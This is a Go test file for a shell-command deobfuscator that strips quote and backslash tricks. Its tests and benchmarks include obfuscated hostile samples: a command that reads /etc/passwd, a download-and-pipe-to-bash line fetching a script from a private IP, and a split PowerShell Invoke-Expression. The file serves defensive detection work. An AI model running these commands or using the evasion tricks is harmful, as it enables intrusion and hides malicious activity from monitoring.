package deobfuscate

import "testing"

func TestShQuotes(t *testing.T) {
	runTransformTable(t, ShQuotes, []transformCase{
		{"mixed quotes", `w'h'o"am"i`, `whoami`, true},
		{"backslashes", `c\at /et\c/pa\sswd`, `cat /etc/passwd`, true},
		{"empty single", `wh''oami`, `whoami`, true},
		{"empty double", `who""ami`, `whoami`, true},
		{"split path", `cat '/etc/pa'ss'wd'`, `cat /etc/passwd`, true},
		{"inside substitution", `echo $(w'h'oami)`, `echo $(whoami)`, true},
		{"escaped space kept", `ls my\ file`, `ls my\ file`, false},
		{"escaped semicolon kept", `find . -exec rm {} \;`, `find . -exec rm {} \;`, false},
		{"regex", `grep -E '^[a-z]+$' file`, `grep -E '^[a-z]+$' file`, false},
		{"echo phrase", `echo "hello world"`, `echo "hello world"`, false},
		{"glob", `find . -name '*.go'`, `find . -name '*.go'`, false},
		{"awk program", `awk '{print $1}'`, `awk '{print $1}'`, false},
		{"ssh command", `ssh user@host 'ls -la'`, `ssh user@host 'ls -la'`, false},
		{"option value", `git log --format='%H'`, `git log --format='%H'`, false},
		{"empty argument", `grep '' file`, `grep '' file`, false},
		{"quoted variable", `cd "$HOME"/src`, `cd "$HOME"/src`, false},
		{"comment", `ls # it's fine`, `ls # it's fine`, false},
		{"windows path", `type C:\Windows\win.ini`, `type C:\Windows\win.ini`, false},
		{"powershell concat", `powershell -c 'Invoke-'+'Expression'`, `powershell -c 'Invoke-'+'Expression'`, false},
		{"unterminated quote", `echo 'abc`, `echo 'abc`, false},
	})
}

func FuzzShQuotes(f *testing.F) {
	fuzzTransform(f, ShQuotes, `w'h'o"am"i`, `c\at /et\c/pa\sswd`, `$(a'b'$(c"d"))`, `"$(`, `\`, "`a'b'`")
}

func BenchmarkShQuotes(b *testing.B) {
	benchTransform(b, ShQuotes, `w'g'et -q -O- http://10.0.0.1/x.sh | b"a"sh; c\at /et\c/pa\sswd`)
}

func BenchmarkShQuotesBenign(b *testing.B) {
	benchTransform(b, ShQuotes, `find . -name '*.go' -newer go.mod | xargs grep -l 'func Test' | sort | head -n 20`)
}
